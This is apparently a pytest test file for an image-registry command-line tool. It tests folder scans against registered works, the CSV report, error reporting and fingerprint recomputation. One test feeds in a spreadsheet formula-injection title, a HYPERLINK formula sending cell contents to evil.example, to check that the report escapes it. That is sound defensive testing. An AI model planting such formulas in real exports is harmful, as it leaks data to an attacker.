"""`ipx scan DIR` (a folder checked against the registry) and `ipx refingerprint` (index rows recomputed)."""

from __future__ import annotations

import csv
import os
import threading

import pytest
from PIL import Image
from skimage import data as skdata
from sqlalchemy import select
from typer.testing import CliRunner

from ipx.cli import app as cli_app
from ipx.db import make_engine, make_session_factory, transaction
from ipx.registry.models import Work, WorkFingerprint
from ipx.registry.scan import in_order_on_threads, scan_file
from tests.api.test_detection import edited_copy, encode

ASTRONAUT = Image.fromarray(skdata.astronaut())
COFFEE = Image.fromarray(skdata.coffee())


@pytest.fixture
def cli_env(settings, monkeypatch) -> None:
    monkeypatch.setenv("IPX_DATABASE_URL", settings.resolved_database_url)
    monkeypatch.setenv("IPX_DATA_DIR", str(settings.data_dir))


def stored_image_rows(settings) -> dict[str, bytes]:
    factory = make_session_factory(make_engine(settings.resolved_database_url))
    with transaction(factory) as session:
        rows = session.scalars(select(WorkFingerprint).where(WorkFingerprint.kind == "image"))
        return {row.work_id: row.data for row in rows}


def test_scan_reports_every_file_with_its_match(client, make_user, cli_env, tmp_path) -> None:
    work = make_user("Alice").register(encode(ASTRONAUT, "PNG"), title="Astronaut", filename="a.png").json()
    folder = tmp_path / "found"
    folder.mkdir()
    (folder / "copy.jpg").write_bytes(edited_copy(ASTRONAUT))
    (folder / "other.jpg").write_bytes(encode(COFFEE))
    report = tmp_path / "report.csv"
    result = CliRunner().invoke(cli_app, ["scan", str(folder), "--out", str(report)])
    assert result.exit_code == 0, result.output
    assert "1 of 2 files match registered works" in result.output
    rows = {row["path"].rsplit("/", 1)[-1]: row for row in csv.DictReader(report.open())}
    assert (rows["copy.jpg"]["status"], rows["copy.jpg"]["work_id"]) == ("match", work["work_id"])
    assert rows["copy.jpg"]["certificate_url"].endswith(f"/works/{work['work_id']}")
    assert (rows["other.jpg"]["status"], rows["other.jpg"]["work_id"]) == ("no match", "")



def test_scan_looks_up_files_beyond_the_upload_limit_exactly_and_reports_files_it_cannot_check(
    client, make_user, cli_env, tmp_path, monkeypatch
) -> None:
    registered = encode(ASTRONAUT, "PNG")
    work = make_user("Alice").register(registered, title="Astronaut", filename="a.png").json()
    folder = tmp_path / "found"
    folder.mkdir()
    (folder / "same.png").write_bytes(registered)
    copy = edited_copy(ASTRONAUT)
    (folder / "copy.jpg").write_bytes(copy)
    (folder / "empty.txt").write_bytes(b"")
    monkeypatch.setenv("IPX_MAX_UPLOAD_BYTES", str(min(len(registered), len(copy)) - 1))
    report = tmp_path / "report.csv"
    result = CliRunner().invoke(cli_app, ["scan", str(folder), "--out", str(report), "--jobs", "2"])
    assert result.exit_code == 0, result.output
    assert "1 of 3 files match registered works; 1 could not be checked" in result.output
    rows = {row["path"].rsplit("/", 1)[-1]: row for row in csv.DictReader(report.open())}
    assert list(rows) == ["copy.jpg", "empty.txt", "same.png"]  # the folder's order, whatever finished first
    same = rows["same.png"]
    assert (same["status"], same["work_id"], same["method"]) == ("match", work["work_id"], "sha256")
    assert same["compared_by"] == "sha256"
    assert "larger than the upload limit" in same["note"]
    assert (rows["copy.jpg"]["status"], rows["copy.jpg"]["compared_by"]) == ("no match", "sha256")
    assert rows["empty.txt"]["status"] == "error: The file is empty (0 bytes): attach the file itself."


def test_scan_says_when_its_report_cannot_be_written_and_never_scans_its_own_report(cli_env, tmp_path) -> None:
    folder = tmp_path / "found"
    folder.mkdir()
    (folder / "other.jpg").write_bytes(encode(COFFEE))
    missing = CliRunner().invoke(cli_app, ["scan", str(folder), "--out", str(tmp_path / "no-such-dir" / "r.csv")])
    assert missing.exit_code == 2 and "No such file or directory" in missing.output
    assert "Loading" not in missing.output and "Traceback" not in missing.output
    (folder / "report.csv").write_text("an earlier report")
    again = CliRunner().invoke(cli_app, ["scan", str(folder), "--out", str(folder / "report.csv")])
    assert again.exit_code == 0, again.output
    assert [row["path"] for row in csv.DictReader((folder / "report.csv").open())] == [str(folder / "other.jpg")]


def test_scan_file_reports_a_file_gone_since_the_folder_was_listed(client, settings, tmp_path) -> None:
    state = client.app.state
    scanned = scan_file(tmp_path / "vanished.jpg", state.session_factory, state.registry, settings.max_upload_bytes)
    assert (scanned.found, scanned.problem) == (None, "The file could not be read (No such file or directory).")


def test_in_order_on_threads_keeps_the_order_and_submits_only_a_little_ahead() -> None:
    started: list[int] = []
    release = threading.Event()

    def slow_first(item: int) -> int:
        started.append(item)
        if item == 0:
            release.wait(5)
        return item * 10

    results = in_order_on_threads(slow_first, range(100), 2)
    threading.Timer(0.2, release.set).start()
    assert [next(results) for _ in range(5)] == [0, 10, 20, 30, 40]
    results.close()  # as an interrupted scan does: the files not yet submitted are never checked
    assert len(started) <= 5 + 2 + 1


def test_refingerprint_restores_rows_from_the_stored_files(
    client, make_user, settings, cli_env
) -> None:
    alice = make_user("Alice")
    astronaut_id = alice.register(encode(ASTRONAUT, "PNG"), title="Astronaut", filename="a.png").json()["work_id"]
    coffee_id = alice.register(encode(COFFEE, "PNG"), title="Coffee", filename="c.png").json()["work_id"]
    registered = stored_image_rows(settings)
    factory = make_session_factory(make_engine(settings.resolved_database_url))
    with transaction(factory) as session:  # as if computed by an older algorithm: wrong for this file
        session.get(WorkFingerprint, (astronaut_id, "image")).data = registered[coffee_id]

    result = CliRunner().invoke(cli_app, ["refingerprint"])
    assert result.exit_code == 0, result.output
    assert "1 work(s) re-fingerprinted, 1 unchanged, 0 failed" in result.output
    assert stored_image_rows(settings) == registered
    again = CliRunner().invoke(cli_app, ["refingerprint"])
    assert "0 work(s) re-fingerprinted, 2 unchanged" in again.output


def test_refingerprint_names_works_whose_file_is_missing(client, make_user, settings, cli_env) -> None:
    work_id = make_user("Alice").register(encode(ASTRONAUT, "PNG"), title="A", filename="a.png").json()["work_id"]
    factory = make_session_factory(make_engine(settings.resolved_database_url))
    with transaction(factory) as session:
        sha256 = session.get(Work, work_id).sha256
    blob = next(settings.data_dir.rglob(sha256))
    blob.unlink()
    result = CliRunner().invoke(cli_app, ["refingerprint"])
    assert result.exit_code == 1
    assert f"not recomputed: {work_id}: its file is not in the blob store" in result.output


def test_scan_report_cells_are_text_and_unreadable_folders_are_reported(
    client, make_user, cli_env, tmp_path, monkeypatch
) -> None:
    """A title or file name starting with = runs as a formula in the spreadsheet the report is opened in; a file
    name that is not UTF-8 stopped the report; a folder that could not be read was skipped without a word."""
    registered = encode(ASTRONAUT, "PNG")
    make_user("Mallory").register(registered, title='=HYPERLINK("http://evil.example/?"&A1,"Click")', filename="a.png")
    folder = tmp_path / "found"
    (folder / "locked").mkdir(parents=True)
    (folder / "=1+1.png").write_bytes(registered)
    (folder / os.fsdecode(b"caf\xe9.txt")).write_bytes(b"not UTF-8 in its name")
    real_scandir = os.scandir

    def scandir(path):  # type: ignore[no-untyped-def]
        if os.fspath(path).endswith("locked"):  # as a folder without read permission does for anyone but root
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.chdir(folder)  # `ipx scan .`: the report's paths are then the bare file names
    report = tmp_path / "report.csv"
    result = CliRunner().invoke(cli_app, ["scan", ".", "--out", str(report)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert [row["path"] for row in rows] == ["locked", "'=1+1.png", "caf\\udce9.txt"]
    assert rows[0]["status"] == "error: The folder could not be read (Permission denied)."
    assert rows[1]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert "1 of 2 files match registered works; 1 could not be checked" in result.output
